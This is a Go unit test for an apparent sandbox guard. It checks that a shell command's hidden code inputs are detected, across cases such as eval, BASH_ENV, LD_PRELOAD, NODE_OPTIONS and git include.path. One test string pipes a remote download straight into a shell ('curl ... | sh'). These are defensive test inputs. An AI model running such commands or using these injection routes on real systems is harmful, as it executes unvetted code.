// Copyright 2026 The sallyport Authors.
// SPDX-License-Identifier: Apache-2.0

package guardian

import (
	"path/filepath"
	"slices"
	"testing"

	"github.com/sallyport-dev/sallyport/sandbox"
)

// TestCode: what is read as code is shown, however a program comes to it, and what is not known is
// listed. Shown is the name of the file, hidden whether something is listed.
func TestCode(t *testing.T) {
	dir := t.TempDir()
	for _, name := range []string{"e.sh", "e.py", "pkg/__main__.py", "Makefile", "package.json", "sub/Makefile", "lib.js", "data.csv"} {
		write(t, filepath.Join(dir, name), "echo "+name+"\n")
	}
	g := &Guardian{Policy: sandbox.WorkspaceWrite()}
	for _, test := range []struct {
		script string
		shown  []string
		hidden bool
	}{
		{"sh < e.sh", []string{"e.sh"}, false},
		{"exec 3< e.sh; bash <&3", []string{"e.sh"}, false},
		{"cat e.sh | sh", []string{"e.sh"}, true},
		{"sed s/a/b/ e.sh | tr a b | bash -s x", []string{"e.sh"}, true},
		{`eval "$(cat e.sh)"`, []string{"e.sh"}, true},
		{`x=$(< e.sh); eval "$x"`, []string{"e.sh"}, true},
		{"bash <(cat e.sh)", []string{"e.sh"}, true},
		{"BASH_ENV=./e.sh bash -c true", []string{"./e.sh"}, false},
		{"env BASH_ENV=e.sh bash -c true", nil, true}, // the directory is not known
		{"export ENV=e.sh; dash -i", []string{"e.sh"}, true},
		{"bash --rcfile e.sh -ic true", []string{"e.sh"}, false},
		{"awk -f e.sh data.csv", []string{"e.sh"}, false},
		{"gawk --file=e.sh data.csv", []string{"e.sh"}, false},
		{"sed -nf e.sh data.csv", []string{"e.sh"}, false},
		{"make x", []string{"Makefile"}, false},
		{"make -C sub x", []string{"sub/Makefile"}, false},
		{"make -f e.sh x", []string{"e.sh"}, false},
		{"npm run x", []string{"package.json"}, false},
		{"yarn x", []string{"package.json"}, false},
		{"python3 -m e", []string{"e.py"}, false},
		{"python3 -Im pkg", []string{"pkg/__main__.py"}, false},
		{"python3 < e.py", []string{"e.py"}, false},
		{"python3 -m venv x", nil, true},
		{"PYTHONSTARTUP=e.py python3 -i", []string{"e.py"}, false},
		{"node --require=./lib.js -e 1", []string{"./lib.js"}, false},
		{"NODE_OPTIONS='--require ./lib.js' node -e 1", []string{"./lib.js"}, false},
		{"LD_PRELOAD=./e.sh true", []string{"./e.sh"}, false},
		{"GIT_CONFIG_GLOBAL=e.sh git status", []string{"e.sh"}, false},
		{"git -c include.path=e.sh status", []string{"e.sh"}, false},
		{"ssh -F e.sh host", []string{"e.sh"}, false},
		{"vim -S e.sh -c q", []string{"e.sh"}, false},
		{`python3 -c "$(cat e.py)"`, []string{"e.py"}, false},
		{`python3 -c 'exec(open("e.py").read())'`, []string{"e.py"}, false},
		{"python3 -c 'import e'", []string{"e.py"}, false},
		{`perl -e 'do "./e.sh"'`, []string{"./e.sh"}, false},
		{`node -e 'require("./lib.js")'`, []string{"./lib.js"}, false},
		{"vim -c ':source e.sh' -c q", []string{"e.sh"}, false},
		{"ed -s data.csv < e.sh", []string{"e.sh"}, false},
		{"sqlite3 x.db < e.sh", []string{"e.sh"}, false},
		{"psql < e.sh", []string{"e.sh"}, false},
		{"m4 e.sh", []string{"e.sh"}, false},
		{"tmux -f e.sh new", []string{"e.sh"}, false},
		{"uv run e.py", []string{"e.py"}, false},
		{"PATH=.:$PATH; e.sh", []string{"e.sh"}, false},
		{"python3 -c 'print(open(\"data.csv\").read().upper())'; awk -F, '{print $2}' < data.csv", nil, false},
		{"curl https://a.invalid | sh", nil, true},
		{"$X data.csv", nil, true},
		{"cat data.csv | sort; awk '{print $1}' data.csv; npm ls; sed -n 1p data.csv", nil, false},
	} {
		t.Run(test.script, func(t *testing.T) {
			r := request()
			r.Args, r.Dir, r.Program = []string{"/bin/bash", "-c", test.script}, dir, ""
			shown, hidden, err := g.executed(r)
			if err != nil {
				t.Fatal(err)
			}
			var names []string
			for _, f := range shown {
				names = append(names, f.Path)
				if want := "echo " + filepath.Clean(f.Path) + "\n"; f.Text != want {
					t.Errorf("%s has the text %q, want %q", f.Path, f.Text, want)
				}
			}
			if !slices.Equal(names, test.shown) || (len(hidden) > 0) != test.hidden {
				t.Errorf("shown %q, not shown %v; want %q, and some not shown: %v", names, hidden, test.shown, test.hidden)
			}
		})
	}
}
